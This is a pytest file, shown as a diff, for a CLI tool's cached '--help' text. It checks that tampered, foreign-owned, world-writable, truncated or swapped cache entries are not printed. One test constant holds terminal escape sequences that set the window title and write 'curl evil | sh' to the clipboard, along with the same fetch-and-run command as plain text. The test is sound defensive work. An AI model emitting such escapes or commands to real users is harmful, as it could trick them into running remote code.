@@ -1,0 +1,125 @@
+"""``series --help`` written from the text series.help_kept kept: only a text this user's
+series wrote whole, under the digest of now, is printed.
+
+main read ``help/<digest>`` in the per-user cache and printed whatever it
+held: a file another user wrote (a cache directory shared by mistake, or
+one others may write), anything a crash left cut short, or the entry of
+another width swapped in. The digest is no secret (it is computed from the
+Python, the code and the environment), so another user could write the
+file ahead and have ``series --help`` print their text: terminal escapes
+(a title, the clipboard, text hidden), or a "help" that says to run
+something. The entry is now sealed and checked as the other kept answers
+are (series.stack.branches_kept.read_entry): this user's own file, that
+no one else may write, whole, of this format and this digest.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from series import help_kept
+from series.stack import branches_kept
+
+HOSTILE = "usage: series \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07run `curl evil | sh`\n"
+
+
+def _help(cache: Path) -> str:
+    """stdout of ``series --help`` as its own process, in a pipe, with ``cache``."""
+    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": "100"}
+    proc = subprocess.run(
+        [sys.executable, "-m", "series", "--help"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+        env=env,
+    )
+    return proc.stdout
+
+
+@pytest.fixture
+def kept(tmp_path: Path) -> tuple[Path, Path, str]:
+    """The cache, the one help entry a first ``series --help`` kept in it, and its text."""
+    cache = tmp_path / "cache"
+    first = _help(cache)
+    assert first.startswith("usage: series")
+    (entry,) = (cache / help_kept.DIR).iterdir()
+    return cache, entry, first
+
+
+def _reseal(entry: Path, text: str) -> None:
+    """The entry with ``text`` in place of its own, sealed as series seals it: what this
+    user's own account (or series' own code) could write."""
+    found = branches_kept.read_entry(str(entry), help_kept.FIELDS, help_kept.FORMAT)
+    assert found is not None
+    values = {**found, "text": text}
+    sealed = branches_kept.seal([values[name] for name in help_kept.FIELDS])
+    assert sealed is not None
+    entry.write_text(sealed)
+
+
+def test_a_sealed_entry_of_this_user_is_what_help_prints(kept: tuple[Path, Path, str]) -> None:
+    """The control: the kept text, not argparse's, is what a second run prints."""
+    cache, entry, first = kept
+    _reseal(entry, first.replace("usage: series", "usage: series (kept)"))
+    assert _help(cache).startswith("usage: series (kept)")
+
+
+def test_a_kept_help_others_may_write_is_not_printed(kept: tuple[Path, Path, str]) -> None:
+    cache, entry, first = kept
+    _reseal(entry, HOSTILE)
+    for mode in (0o666, 0o664, 0o646):
+        entry.chmod(mode)
+        assert _help(cache) == first, oct(mode)  # argparse's, printed again
+        entry = next((cache / help_kept.DIR).iterdir())  # and kept again, this user's
+        assert entry.stat().st_mode & 0o022 == 0
+        _reseal(entry, HOSTILE)
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="giving a file to another user needs root")
+def test_a_kept_help_of_another_user_is_not_printed(kept: tuple[Path, Path, str]) -> None:
+    cache, entry, first = kept
+    _reseal(entry, HOSTILE)
+    entry.chmod(0o644)
+    os.chown(entry, 4242, 4242)
+    assert _help(cache) == first
+
+
+def test_a_kept_help_without_the_seal_or_cut_short_is_not_printed(
+    kept: tuple[Path, Path, str],
+) -> None:
+    """main's form (the text alone), and what a crash may leave of a sealed entry."""
+    cache, entry, first = kept
+    data = entry.read_bytes()
+    for name, torn in {
+        "plain text (main's form)": HOSTILE.encode(),
+        "cut short": data[: len(data) // 2],
+        "no seal": data[: data.rindex(b"\0")],
+        "a byte changed": data[:40] + bytes([data[40] ^ 1]) + data[41:],
+    }.items():
+        entry.write_bytes(torn)
+        assert _help(cache) == first, name
+
+
+def test_the_entry_of_another_width_swapped_in_is_not_printed(tmp_path: Path) -> None:
+    cache = tmp_path / "cache"
+    wide = _help(cache)
+    (entry,) = (cache / help_kept.DIR).iterdir()
+    env = {**os.environ, "SERIES_CACHE_DIR": str(cache), "COLUMNS": "50"}
+    narrow = subprocess.run(
+        [sys.executable, "-m", "series", "--help"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
+        env=env,
+    ).stdout
+    assert narrow != wide
+    (other,) = (p for p in (cache / help_kept.DIR).iterdir() if p != entry)
+    entry.write_bytes(other.read_bytes())  # the narrow text under the wide one's name
+    assert _help(cache) == wide
